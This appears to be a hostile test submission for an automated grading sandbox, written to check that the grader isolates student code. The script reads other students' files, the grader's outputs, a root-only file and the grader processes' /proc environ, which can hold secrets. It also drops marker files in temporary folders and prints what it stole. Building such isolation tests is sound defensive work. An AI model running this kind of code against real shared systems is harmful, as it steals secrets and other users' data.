# Hostile: read other students' code, the grader's outputs, a root-only file and the grader's
# environment (paths the test wrote in targets.txt), then leave files in /tmp, /dev/shm and
# /var/tmp. Anything read is printed where the feedback shows it (the test looks for it there).
import os
import sys

from _attack import planted, serve


def grader_environments():
    """/proc/<pid>/environ of the grader's processes (their command line names tools.grade)."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if b"tools.grade" in open("/proc/%s/cmdline" % pid, "rb").read():
                yield "/proc/%s/environ" % pid
        except OSError:
            pass


stolen = []
for path in planted("targets.txt").split("\n") + list(grader_environments()):
    try:
        with open(path, "rb") as fh:
            stolen.append(fh.read(200))
    except OSError:
        pass
    try:
        stolen.extend(os.listdir(path))
    except OSError:
        pass
for folder in ("/tmp", "/dev/shm", "/var/tmp"):
    try:
        with open(os.path.join(folder, "canaduck-hostile-x_reader"), "w") as fh:
            fh.write("left behind")
    except OSError:
        pass
if stolen:
    sys.stderr.write("STOLEN %r\n" % stolen)
serve()
